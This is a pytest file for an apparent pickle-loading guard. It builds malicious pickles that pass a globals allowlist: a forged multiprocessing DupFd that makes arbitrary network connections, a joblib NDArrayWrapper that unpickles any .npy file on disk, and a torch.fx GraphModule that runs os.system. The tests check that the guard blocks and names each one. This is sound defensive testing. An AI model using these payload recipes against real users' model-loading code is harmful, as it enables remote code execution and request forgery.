"""Payloads that name only allowlisted globals.

A pickle guard that checks globals is blind to what an allowed callable does with the pickle's
data. These artifacts pass the pickle allowlist on purpose; the other guards (network, process,
and the pickle guard on the NESTED load) must stop what they do, and name the artifact.
"""
from __future__ import annotations

import pickle
import socket
import threading

import pytest

import artifacts as A
import tmtguard
from conftest import write_allowlist


# --- a forged multiprocessing DupFd: connect anywhere with built-in allowlisted globals ------------
# torch.multiprocessing.reductions:rebuild_storage_fd and multiprocessing.resource_sharer:DupFd are in
# the built-in allowlist (DataLoader workers send tensors that way). rebuild_storage_fd calls
# DupFd.detach(), which connects to the address in the DupFd's state, which BUILD sets: a
# server-side request forgery that also answers the peer's authentication challenge with this
# process's multiprocessing authkey. No public advisory.


@pytest.fixture
def listener(marker):
    """A TCP server on 127.0.0.1 that writes the marker when anything connects: the payload's
    effect is the connection itself."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.1)
    connected = threading.Event()
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            marker.write_text("connected")
            connected.set()
            conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname(), connected
    stop.set()
    t.join(5)
    srv.close()


def forged_dupfd_pickle(address) -> bytes:
    dupfd = A.build(A.call(A.glob("copyreg", "_reconstructor"), A.glob("multiprocessing.resource_sharer", "DupFd"),
                           A.glob("builtins", "object"), None),
                    A.val_dict({"_id": A.val((A.val(address), "key"))}))
    return A.dumps(A.call(A.glob("torch.multiprocessing.reductions", "rebuild_storage_fd"),
                          A.glob("torch", "UntypedStorage"), dupfd, 8))


def _load(how, path):
    if how == "pickle.load":
        with open(path, "rb") as fh:
            return pickle.load(fh)
    if how == "pickle.loads":
        return pickle.loads(path.read_bytes())
    import torch

    return torch.load(path, weights_only=False)


LOADERS = ["pickle.load", "pickle.loads", "torch.load"]


@pytest.mark.parametrize("how", LOADERS)
def test_forged_dupfd_connects_when_unguarded(unguarded, listener, marker, tmp_path, how):
    import torch.multiprocessing  # noqa: F401  (registers the reductions, as any torch program has)

    address, connected = listener
    path = tmp_path / "ipc.pkl"
    path.write_bytes(forged_dupfd_pickle(address))
    with pytest.raises(Exception):
        _load(how, path)
    assert connected.wait(5) and marker.exists(), "the forged DupFd really connects"


@pytest.mark.parametrize("how", LOADERS)
def test_forged_dupfd_connect_refused_and_named(guard, listener, marker, tmp_path, how):
    # Before the fix, a top-level pickle.load/loads (which keeps no frame until a decision needs
    # one) was invisible to the network guard: this connect went through with only built-in globals.
    address, connected = listener
    path = tmp_path / "ipc.pkl"
    path.write_bytes(forged_dupfd_pickle(address))
    events = guard()
    with pytest.raises(tmtguard.NetworkViolation):
        _load(how, path)
    assert not connected.wait(0.3) and not marker.exists()
    [ev] = [e for e in events if e["decision"] == "blocked"]
    assert (ev["action"], ev["target"]) == ("network.connect", f"127.0.0.1:{address[1]}")
    [frame] = ev["chain"]
    assert frame["loader"] == how
    assert frame["artifact"] == (str(path) if how != "pickle.loads" else f"<bytes:{path.stat().st_size}>")


def test_forged_dupfd_to_a_foreign_unix_socket_is_refused(guard, tmp_path, marker):
    # Only multiprocessing's own listeners (<tmp>/pymp-*/listener-*) are plumbing.
    sock_path = tmp_path / "docker.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(sock_path))
    srv.listen(1)
    try:
        events = guard()
        with pytest.raises(tmtguard.NetworkViolation):
            pickle.loads(forged_dupfd_pickle(str(sock_path)))
        assert events[-1]["target"] == f"unix:{sock_path}"
    finally:
        srv.close()


def test_dataloader_fd_handover_still_works(guard):
    # The real protocol: a worker process sends tensors through its resource sharer's unix listener.
    import torch
    from torch.utils.data import DataLoader

    events = guard()
    loader = DataLoader(list(range(8)), batch_size=4, num_workers=2,
                        collate_fn=lambda b: torch.tensor(b, dtype=torch.float32))
    batches = [b.tolist() for b in loader]
    assert sorted(x for b in batches for x in b) == list(range(8))
    assert [e for e in events if e["decision"] == "blocked"] == []


# --- joblib's pre-0.10 NDArrayWrapper: a nested numpy.load(allow_pickle=True) of any path ----------
# joblib.numpy_pickle_compat:NDArrayWrapper is in the built-in allowlist (old joblib files). When
# joblib's unpickler BUILDs one, it calls numpy.load(<folder of the pickle>/<filename>,
# allow_pickle=True); os.path.join drops the folder when the filename is absolute, so the artifact
# chooses ANY .npy on the machine and has it unpickled. No public advisory.


def ndarray_wrapper_pickle(inner_path) -> bytes:
    wrapper = A.build(A.call(A.glob("copyreg", "_reconstructor"), A.glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
                             A.glob("builtins", "object"), None),
                      A.val_dict({"filename": str(inner_path), "subclass": A.glob("numpy", "ndarray"), "allow_mmap": False}))
    return A.dumps(A.val_dict({"coef": wrapper}))


@pytest.fixture
def elsewhere_npy(tmp_path_factory, marker):
    import numpy as np

    other = tmp_path_factory.mktemp("elsewhere") / "cache.npy"
    np.save(other, np.array([A.system_payload(str(marker))], dtype=object), allow_pickle=True)
    return other


def test_ndarray_wrapper_loads_any_npy_when_unguarded(unguarded, tmp_path, marker, elsewhere_npy):
    import joblib

    path = tmp_path / "model.joblib"
    path.write_bytes(ndarray_wrapper_pickle(elsewhere_npy))
    joblib.load(path)
    assert marker.exists()


def test_ndarray_wrapper_nested_numpy_load_is_decided_and_named(guard, tmp_path, marker, elsewhere_npy):
    import joblib

    path = tmp_path / "model.joblib"
    path.write_bytes(ndarray_wrapper_pickle(elsewhere_npy))
    events = guard()
    with pytest.raises(tmtguard.Violation):
        joblib.load(path)
    assert not marker.exists()
    ev = [e for e in events if e["decision"] == "blocked"][0]
    assert (ev["action"], ev["target"]) == ("pickle.global", "posix:system")
    assert [(f["loader"], f["artifact"]) for f in ev["chain"]] == [("joblib.load", str(path)),
                                                                   ("numpy.load", str(elsewhere_npy))]


# --- torch.fx GraphModule: an allowlisted reducer that executes the artifact's source -------------
# A user who allowlists torch.fx.graph_module:reduce_graph_module (to load a pickled GraphModule)
# lets the artifact's ``import_block`` run: torch.fx is a code generator the built-in code.allow
# permits, so what the code then DOES must be decided. No public advisory.


def graph_module_pickle(marker) -> bytes:
    body = A.val_dict({"_code": "\ndef forward(self):\n    return 1\n", "_graphmodule_cls_name": "GraphModule"})
    return A.dumps(A.call(A.glob("torch.fx.graph_module", "reduce_graph_module"), body,
                          f"import os\nos.system({A.sh_marker(str(marker))!r})\n"))


FX_ALLOW = "version: 1\npickle:\n  allow: [torch.fx.graph_module:reduce_graph_module]\n"


def test_graph_module_import_block_runs_when_unguarded(unguarded, tmp_path, marker):
    import torch.fx  # noqa: F401

    try:
        pickle.loads(graph_module_pickle(marker))
    except Exception:
        pass
    assert marker.exists()


def test_graph_module_import_block_spawn_refused_with_the_load_chain(guard, tmp_path, marker):
    import torch.fx  # noqa: F401

    path = tmp_path / "gm.pkl"
    path.write_bytes(graph_module_pickle(marker))
    events = guard(allowlists=[write_allowlist(tmp_path / "fx.yaml", FX_ALLOW)])
    with open(path, "rb") as fh, pytest.raises(tmtguard.Violation):
        pickle.load(fh)
    assert not marker.exists()
    [ev] = [e for e in events if e["decision"] == "blocked"]
    assert ev["action"] == "process.spawn"
    assert [(f["loader"], f["artifact"]) for f in ev["chain"]] == [("pickle.load", str(path))]
